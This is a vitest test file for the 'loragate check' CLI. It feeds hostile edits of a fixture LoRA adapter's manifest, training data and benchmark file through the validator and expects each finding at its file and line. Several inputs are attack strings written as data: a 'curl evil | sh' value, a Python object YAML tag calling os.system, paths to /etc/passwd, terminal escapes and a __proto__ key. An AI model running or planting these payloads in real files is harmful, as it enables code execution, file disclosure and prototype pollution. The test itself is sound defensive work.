import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { runCli } from "../src/cli/main.ts";
import { FIXTURE_ROOT } from "./support/registry.ts";

// Hostile edits of the fixture's valid adapter, each through `loragate check` as a contributor runs it.
const A = "adapters/math-gsm8k";
export const MANIFEST = `${A}/adapter.yaml`;
export const TRAIN = `${A}/training/dataset.jsonl`;
export const BENCH = `${A}/eval/benchmark.jsonl`;

export interface HostileCase {
  name: string;
  /** The finding expected, at this line of `file` (0: the file as a whole). */
  rule: string;
  line: number;
  file: string;
  edit: (text: string) => string | Buffer;
}

const line = (n: number, f: (l: string) => string) => (t: string) =>
  t
    .split("\n")
    .map((l, i) => (i === n - 1 ? f(l) : l))
    .join("\n");
const record = (n: number, change: Record<string, unknown>) =>
  line(n, (l) => JSON.stringify({ ...JSON.parse(l), ...change }));
const replace = (from: string, to: string) => (t: string) => {
  if (!t.includes(from)) throw new Error(`the fixture no longer holds ${from}`);
  return t.replace(from, to);
};

export const CASES: HostileCase[] = [
  {
    name: "a tab for indentation",
    rule: "yaml-syntax",
    line: 11,
    file: MANIFEST,
    edit: replace("  r: 16", "\tr: 16"),
  },
  {
    name: "an unterminated quoted string",
    rule: "yaml-syntax",
    line: 25,
    file: MANIFEST,
    edit: replace("domain: math", 'domain: "math'),
  },
  {
    name: "a python object tag",
    rule: "yaml-syntax",
    line: 3,
    file: MANIFEST,
    edit: replace("domain: math", "domain: !!python/object:os.system math"),
  },
  {
    name: "a version that is not semver",
    rule: "invalid-value",
    line: 4,
    file: MANIFEST,
    edit: replace("version: 0.2.0", "version: '1.0'"),
  },
  {
    name: "a name that is not the folder's",
    rule: "name-mismatch",
    line: 2,
    file: MANIFEST,
    edit: replace("name: math-gsm8k", "name: math-other"),
  },
  {
    name: "rank 0",
    rule: "hyperparameter-range",
    line: 11,
    file: MANIFEST,
    edit: replace("  r: 16", "  r: 0"),
  },
  {
    name: "a negative alpha",
    rule: "hyperparameter-range",
    line: 12,
    file: MANIFEST,
    edit: replace("  alpha: 64", "  alpha: -64"),
  },
  {
    name: "an unknown top-level key",
    rule: "unknown-field",
    line: 31,
    file: MANIFEST,
    edit: (t) => `${t}run_this: "curl evil | sh"\n`,
  },
  {
    name: "an unknown evaluation type",
    rule: "invalid-value",
    line: 27,
    file: MANIFEST,
    edit: replace("  type: numeric", "  type: bleu"),
  },
  {
    name: "a back-reference in the adapter's regex",
    rule: "invalid-regex",
    line: 29,
    file: MANIFEST,
    edit: replace("  type: numeric", "  type: regex\n  config:\n    pattern: '(a)\\1'"),
  },
  {
    name: "a lookahead in the adapter's extract pattern",
    rule: "invalid-regex",
    line: 29,
    file: MANIFEST,
    edit: replace("  type: numeric", "  type: numeric\n  config:\n    extract: '(?=answer)\\d+'"),
  },
  {
    name: "a 600-character regex",
    rule: "invalid-regex",
    line: 29,
    file: MANIFEST,
    edit: replace("  type: numeric", `  type: regex\n  config:\n    pattern: '${"a".repeat(600)}'`),
  },
  {
    name: "a training path up and out",
    rule: "path-traversal",
    line: 22,
    file: MANIFEST,
    edit: replace("train: training/dataset.jsonl", "train: ../../../etc/passwd"),
  },
  {
    name: "an absolute training path",
    rule: "absolute-path",
    line: 22,
    file: MANIFEST,
    edit: replace("train: training/dataset.jsonl", "train: /etc/passwd"),
  },
  {
    name: "a backslash path",
    rule: "invalid-path",
    line: 22,
    file: MANIFEST,
    edit: replace("train: training/dataset.jsonl", "train: training\\dataset.jsonl"),
  },
  {
    name: "a CSV where JSONL belongs",
    rule: "missing-file",
    line: 22,
    file: MANIFEST,
    edit: replace("train: training/dataset.jsonl", "train: training/dataset.csv"),
  },
  {
    name: "terminal escapes in the description",
    rule: "invalid-value",
    line: 5,
    file: MANIFEST,
    edit: line(5, () => 'description: "\\e[2J\\e[31mPrices"'),
  },
  {
    name: "a 2 MB description",
    rule: "out-of-range",
    line: 5,
    file: MANIFEST,
    edit: replace("description: Prices", `description: ${"x".repeat(2 << 20)} Prices`),
  },
  {
    name: "an OOD benchmark the registry lacks",
    rule: "unknown-benchmark",
    line: 29,
    file: MANIFEST,
    edit: replace("ood_benchmarks: [code, analysis]", "ood_benchmarks: [code, nonexistent]"),
  },
  {
    name: "a number for the name",
    rule: "wrong-type",
    line: 2,
    file: MANIFEST,
    edit: replace("name: math-gsm8k", "name: 123"),
  },
  {
    name: "a base the registry does not pin",
    rule: "base-mismatch",
    line: 9,
    file: MANIFEST,
    edit: replace("base: tiny-llama-fixture-2026", "base: llama-3-70b"),
  },
  {
    name: "max_tokens past the limit",
    rule: "out-of-range",
    line: 28,
    file: MANIFEST,
    edit: replace("  max_tokens: 48", "  max_tokens: 100000"),
  },
  {
    name: "a JSON string as a training line",
    rule: "jsonl-not-object",
    line: 3,
    file: TRAIN,
    edit: line(3, () => '"hello"'),
  },
  {
    name: "a trailing comma",
    rule: "jsonl-syntax",
    line: 4,
    file: TRAIN,
    edit: line(4, (l) => `${l.slice(0, -1)},}`),
  },
  {
    name: "a __proto__ key in a record",
    rule: "forbidden-key",
    line: 5,
    file: TRAIN,
    edit: line(5, (l) => `{"__proto__": {"x": 1}, ${l.slice(1)}`),
  },
  {
    name: "an output that is a list",
    rule: "wrong-type",
    line: 6,
    file: TRAIN,
    edit: record(6, { output: ["a", "b"] }),
  },
  {
    name: "an instruction of spaces",
    rule: "empty-instruction",
    line: 7,
    file: TRAIN,
    edit: record(7, { instruction: "   " }),
  },
  { name: "a UTF-8 BOM", rule: "bom", line: 1, file: TRAIN, edit: (t) => `\uFEFF${t}` },
  {
    name: "a line past max_line_bytes",
    rule: "line-too-long",
    line: 8,
    file: TRAIN,
    edit: record(8, { input: "x".repeat(1 << 21) }),
  },
  {
    name: "a NUL byte in a line",
    rule: "nul-byte",
    line: 9,
    file: TRAIN,
    edit: line(9, (l) => `${l.slice(0, 10)}\0${l.slice(10)}`),
  },
  {
    name: "an overlong UTF-8 encoding",
    rule: "invalid-utf8",
    line: 11,
    file: TRAIN,
    edit: (t) =>
      Buffer.concat([
        Buffer.from(t.split("\n").slice(0, 10).join("\n") + '\n{"instruction": "'),
        Buffer.from([0xc0, 0xaf]),
        Buffer.from('", "input": "", "output": "x"}\n' + t.split("\n").slice(10).join("\n")),
      ]),
  },
  {
    name: "a Git LFS pointer",
    rule: "lfs-pointer",
    line: 1,
    file: TRAIN,
    edit: () => "version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 12345\n",
  },
  {
    name: "a benchmark id with spaces",
    rule: "invalid-value",
    line: 2,
    file: BENCH,
    edit: record(2, { id: "q 0002" }),
  },
  {
    name: "a difficulty outside the scale",
    rule: "invalid-value",
    line: 3,
    file: BENCH,
    edit: record(3, { difficulty: "extreme" }),
  },
  {
    name: "a repeated benchmark id",
    rule: "duplicate-id",
    line: 4,
    file: BENCH,
    edit: record(4, { id: "q-0001" }),
  },
  {
    name: "a back-reference in an item's pattern",
    rule: "invalid-regex",
    line: 5,
    file: BENCH,
    edit: record(5, { evaluation_type: "regex", evaluation_config: { pattern: "(x)\\1" } }),
  },
  {
    name: "an empty expected output",
    rule: "empty-expected-output",
    line: 6,
    file: BENCH,
    edit: record(6, { expected_output: "" }),
  },
  {
    name: "a 200-character id",
    rule: "invalid-value",
    line: 7,
    file: BENCH,
    edit: record(7, { id: "q".repeat(200) }),
  },
  {
    name: "all items as one JSON array",
    rule: "jsonl-not-object",
    line: 1,
    file: BENCH,
    edit: (t) => `[${t.trim().split("\n").join(",")}]\n`,
  },
  {
    name: "an unknown evaluation type on an item",
    rule: "invalid-value",
    line: 8,
    file: BENCH,
    edit: record(8, { evaluation_type: "bleu" }),
  },
];

const root = mkdtempSync(join(tmpdir(), "loragate-hostile-cli-"));
cpSync(FIXTURE_ROOT, root, { recursive: true });
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function checkWith(c: HostileCase, format: "json" | "text") {
  const path = join(root, c.file);
  const original = readFileSync(path);
  writeFileSync(path, c.edit(original.toString("utf8")));
  let stdout = "";
  let stderr = "";
  try {
    const code = await runCli(["check", root, "--adapter", "math-gsm8k", "--format", format], {
      stdout: (s) => (stdout += s),
      stderr: (s) => (stderr += s),
      isTTY: false,
    });
    return { code, stdout, stderr };
  } finally {
    writeFileSync(path, original);
  }
}

describe("hostile inputs through `loragate check`: exit 1, the finding at its file:line, no stack", () => {
  it.each(CASES.map((c) => [c.name, c] as const))("%s", async (_name, c) => {
    const { code, stdout, stderr } = await checkWith(c, "json");
    expect(stderr).toBe("");
    expect(code).toBe(1);
    const report = JSON.parse(stdout) as {
      adapters: { findings: { file: string; line: number; rule: string }[] }[];
    };
    const findings = report.adapters.flatMap((a) => a.findings);
    expect(findings.map((f) => `${f.file}:${f.line} ${f.rule}`)).toContain(`${c.file}:${c.line} ${c.rule}`);
  });

  it("text output of every case: no stack, no raw control character, the same exit code", async () => {
    for (const c of CASES) {
      const { code, stdout, stderr } = await checkWith(c, "text");
      expect(code, c.name).toBe(1);
      expect(stdout + stderr, c.name).not.toMatch(/\n\s+at \S+ \(|[\x00-\x08\x0b-\x1f\x7f]/);
      expect(stdout, c.name).toContain(`${c.file}:${c.line === 0 ? "" : c.line}`);
    }
  });
});
